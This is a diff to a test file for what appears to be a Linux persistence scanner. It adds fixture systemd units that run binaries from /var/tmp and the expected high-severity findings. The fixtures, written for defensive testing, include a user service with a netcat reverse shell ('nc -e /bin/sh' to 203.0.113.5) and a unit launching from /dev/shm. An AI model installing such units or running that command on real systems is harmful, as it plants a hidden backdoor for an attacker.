@@ -78,6 +78,9 @@ Deno.test("persistence: payloads and untrusted locations in every kind of point 
     "etc/systemd/system/evil.service": "[Service]\nType=oneshot\nExecStart=/dev/shm/kw\n",
     "home/bob/.config/systemd/user/u.service":
       "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 203.0.113.5 1'\n",
+    "etc/systemd/system/local.service":
+      "[Service]\nExecStartPre=/usr/bin/true\nExecStart=/var/tmp/.d/agent\n",
+    "usr/lib/systemd/system/vendor.service": "[Service]\nExecStart=/var/tmp/vendor\n",
     "etc/rc.local": { content: "#!/bin/sh -e\n/usr/local/bin/startup\nexit 0\n", mode: 0o755 },
   }));
   const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
@@ -91,6 +94,7 @@ Deno.test("persistence: payloads and untrusted locations in every kind of point 
     "high persistence.command.untrusted_path /etc/crontab",
     "high persistence.command.untrusted_path /etc/ld.so.preload",
     "high persistence.command.untrusted_path /etc/systemd/system/evil.timer",
+    "high persistence.command.untrusted_path /etc/systemd/system/local.service",
     "high persistence.command.untrusted_path /etc/udev/rules.d/99-x.rules",
     "high persistence.command.untrusted_path /etc/xdg/autostart/x.desktop",
     "high persistence.command.untrusted_path /var/spool/cron/crontabs/bob",
